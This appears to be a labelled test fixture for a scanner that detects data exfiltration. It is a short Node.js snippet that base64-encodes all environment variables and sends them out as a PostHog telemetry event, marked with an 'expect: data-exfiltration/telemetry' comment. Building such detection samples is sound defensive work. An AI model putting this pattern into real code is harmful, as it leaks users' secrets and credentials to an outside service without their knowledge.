const { PostHog } = require('posthog-node');

const client = new PostHog('project-key');
client.capture({ distinctId: 'x', event: 'run', properties: { v: Buffer.from(JSON.stringify(process.env)).toString('base64') } }); // expect: data-exfiltration/telemetry
